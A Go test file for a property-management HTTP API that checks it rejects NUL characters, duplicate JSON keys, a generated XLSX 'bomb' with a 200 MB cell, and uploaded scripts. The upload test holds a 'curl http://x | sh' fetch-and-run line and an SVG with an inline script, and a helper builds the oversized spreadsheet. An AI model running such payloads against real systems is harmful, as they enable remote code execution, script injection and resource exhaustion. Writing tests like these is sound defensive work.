package httpapi_test

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"io"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/wuye-project/wuye/core/store"
	"github.com/wuye-project/wuye/core/store/storetest"
)

// fieldErr returns the first field error of an invalid_input answer.
func fieldErr(m map[string]any) (field, code string) {
	e, _ := m["error"].(map[string]any)
	fe, _ := e["details"].([]any)
	if len(fe) == 0 {
		return "", ""
	}
	f, _ := fe[0].(map[string]any)
	field, _ = f["field"].(string)
	code, _ = f["code"].(string)
	return field, code
}

// TestNULRefused: a NUL character in a JSON string, a JSON key, a query value
// or a path parameter is a 400 naming the field, on both engines (PostgreSQL
// answered 500 for it, SQLite stored it).
func TestNULRefused(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		cs, _ := importAPI(t, db)
		a := cs["a"]
		raw := func(method, path, body string) (int, map[string]any) {
			rec := a.raw(method, path, "application/json", []byte(body))
			out := map[string]any{}
			json.Unmarshal(rec.Body.Bytes(), &out)
			return rec.Code, out
		}
		for _, tc := range []struct{ method, path, body, field string }{
			{"POST", "/api/v1/communities", `{"name":"a\u0000b"}`, "name"},
			{"POST", "/api/v1/communities", `{"name":"ok","a\u0000":1}`, `a\u0000`},
			{"GET", "/api/v1/persons?name=%00", "", "name"},
			{"GET", "/api/v1/communities?q=x%00y", "", "q"},
			{"DELETE", "/api/v1/persons/" + "00000000-0000-0000-0000-000000000001" + "/tags/a%00b", "", "tag"},
		} {
			st, out := raw(tc.method, tc.path, tc.body)
			if f, code := fieldErr(out); st != 400 || errCode(out) != "invalid_input" || code != "invalid_character" || f != tc.field {
				t.Errorf("%s %s %s: %d %v, want 400 invalid_character on %q", tc.method, tc.path, tc.body, st, out, tc.field)
			}
		}
		if st, out := raw("GET", "/api/v1/communities", ""); st != 200 || out["total"].(float64) != 0 {
			t.Errorf("a community was stored: %d %v", st, out)
		}
	})
}

// TestDuplicateJSONKeys: encoding/json keeps the last of two equal keys; the
// API refuses such a body and names the key's path.
func TestDuplicateJSONKeys(t *testing.T) {
	db := storetest.SQLite(t)
	cs, _ := importAPI(t, db)
	a := cs["a"]
	for body, key := range map[string]string{
		`{"name":"a","name":"b"}`:                               "name",
		`{"name":"a","code":"x","code":"y"}`:                    "code",
		`{"name":"a","nested":{"k":1,"k":2}}`:                   "nested.k",
		`{"name":"a","list":[{"k":1},{"k":1,"k":2}]}`:           "list[1].k",
		`{"name":"a","list":[{"k":1},{"k":[1,{"x":1,"x":1}]}]}`: "list[1].k[1].x",
	} {
		rec := a.raw("POST", "/api/v1/communities", "application/json", []byte(body))
		out := map[string]any{}
		json.Unmarshal(rec.Body.Bytes(), &out)
		e, _ := out["error"].(map[string]any)
		d, _ := e["details"].(map[string]any)
		if rec.Code != 400 || errCode(out) != "duplicate_json_key" || d["key"] != key {
			t.Errorf("%s: %d %v, want 400 duplicate_json_key on %q", body, rec.Code, out, key)
		}
	}
	// Equal keys in different objects are fine (then the unknown field is refused by name).
	rec := a.raw("POST", "/api/v1/communities", "application/json", []byte(`{"name":"a","x":{"name":1}}`))
	if rec.Code != 400 || !strings.Contains(rec.Body.String(), `"code":"unknown_field"`) || !strings.Contains(rec.Body.String(), `"field":"x"`) {
		t.Errorf("nested equal key: %d %s", rec.Code, rec.Body)
	}
	if st, out := a.do("POST", "/api/v1/communities", map[string]any{"name": "阳光花园"}); st != 201 {
		t.Errorf("good body: %d %v", st, out)
	}
}

func bombXLSX(t *testing.T, n int) []byte {
	t.Helper()
	var out bytes.Buffer
	zw := zip.NewWriter(&out)
	part := func(name, body string) {
		w, _ := zw.Create(name)
		io.WriteString(w, body)
	}
	part("[Content_Types].xml", `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`)
	part("_rels/.rels", `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`)
	part("xl/workbook.xml", `<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="房屋" sheetId="1" r:id="rId1"/></sheets></workbook>`)
	part("xl/_rels/workbook.xml.rels", `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`)
	w, _ := zw.Create("xl/worksheets/sheet1.xml")
	io.WriteString(w, `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`+
		`<row r="1"><c r="A1" t="inlineStr"><is><t>小区</t></is></c><c r="B1" t="inlineStr"><is><t>楼栋</t></is></c><c r="C1" t="inlineStr"><is><t>单元</t></is></c><c r="D1" t="inlineStr"><is><t>房号</t></is></c></row>`+
		`<row r="2"><c r="A2" t="inlineStr"><is><t>`)
	chunk := bytes.Repeat([]byte{'a'}, 1<<20)
	for ; n > 0; n -= len(chunk) {
		w.Write(chunk[:min(n, len(chunk))])
	}
	io.WriteString(w, `</t></is></c></row></sheetData></worksheet>`)
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// TestImportHostileFiles: a spreadsheet bomb is refused at once with a short
// answer; an over-long cell is refused; a long value is echoed only in part;
// a NUL in a cell is a row problem on both engines.
func TestImportHostileFiles(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		cs, _ := importAPI(t, db)
		a := cs["a"]
		compound(t, a)
		const xlsxType = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

		bomb := bombXLSX(t, 200<<20)
		var before, after runtime.MemStats
		runtime.GC()
		runtime.ReadMemStats(&before)
		start := time.Now()
		rec := a.raw("POST", "/api/v1/imports/rooms?dry_run=true", xlsxType, bomb)
		took := time.Since(start)
		runtime.ReadMemStats(&after)
		// One 200 MB cell: the cell limit stops it long before the total does.
		if rec.Code != 400 || !strings.Contains(rec.Body.String(), `"sheet_cell_too_long"`) || rec.Body.Len() > 1024 {
			t.Fatalf("bomb of %d KB: %d %.300s (%d bytes)", len(bomb)>>10, rec.Code, rec.Body, rec.Body.Len())
		}
		if alloc := after.TotalAlloc - before.TotalAlloc; took > 5*time.Second || alloc > 32<<20 {
			t.Errorf("bomb took %v and %d MB", took, alloc>>20)
		}

		rec = a.raw("POST", "/api/v1/imports/rooms?dry_run=true", xlsxType, bombXLSX(t, 1<<20))
		if rec.Code != 400 || !strings.Contains(rec.Body.String(), `"sheet_cell_too_long"`) || rec.Body.Len() > 1024 {
			t.Fatalf("1 MB cell: %d %.300s", rec.Code, rec.Body)
		}

		tpl := a.raw("GET", "/api/v1/imports/rooms/template?format=csv", "", nil)
		long := strings.Repeat("长", 5000)
		rec = a.raw("POST", "/api/v1/imports/rooms?format=csv&dry_run=true", "text/csv", csvFile(t, tpl.Body.Bytes(),
			[]string{long, "1栋", "1单元", "901"},
			[]string{"阳光花园", "1栋", "1单元", "9\x0002"},
			[]string{"阳光花园", "1栋", "1单元", "903"}))
		if rec.Body.Len() > 4096 {
			t.Errorf("report of %d bytes echoes whole cells", rec.Body.Len())
		}
		rep := report(t, rec)
		for _, p := range rep.Problems {
			if n := utf8.RuneCountInString(p.Value); n > 65 {
				t.Errorf("problem echoes %d characters: %+v", n, p.Code)
			}
		}
		if rep.BadRows != 2 || !slices.Contains(problems(rep), "3 number invalid_character") {
			t.Fatalf("report %+v", rep)
		}
	})
}

// TestAssetDocumentsRefuseScriptsAndMarkup: a shell script and an SVG without
// an XML prolog, which the sniffer calls plain text, answer 415.
func TestAssetDocumentsRefuseScriptsAndMarkup(t *testing.T) {
	db := storetest.SQLite(t)
	h, _, _ := newAPI(db)
	a := client{t, h, "a"}
	_, comm := a.do("POST", "/api/v1/communities", map[string]any{"name": "阳光花园"})
	st, as := a.do("POST", "/api/v1/assets", map[string]any{"community_id": comm["id"], "code": "E1", "name": "1号电梯", "category": "elevator"})
	if st != 201 {
		t.Fatalf("asset %d %v", st, as)
	}
	docs := "/api/v1/assets/" + as["id"].(string) + "/documents"
	for name, data := range map[string]string{
		"install.sh":  "#!/bin/sh\ncurl http://x | sh\n",
		"install.txt": "#!/bin/sh\ncurl http://x | sh\n",
		"logo.svg":    `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`,
		"logo.txt":    `<svg xmlns="http://www.w3.org/2000/svg"></svg>`,
	} {
		if rec, body := a.upload(docs, name, []byte(data)); rec.Code != 415 || errCode(body) != "unsupported_media_type" {
			t.Errorf("%s: %d %v", name, rec.Code, body)
		}
	}
	if rec, body := a.upload(docs, "巡检记录.txt", []byte("电梯运行正常 #!\n温度 < 40℃\n")); rec.Code != 201 {
		t.Errorf("plain text: %d %v", rec.Code, body)
	}
}
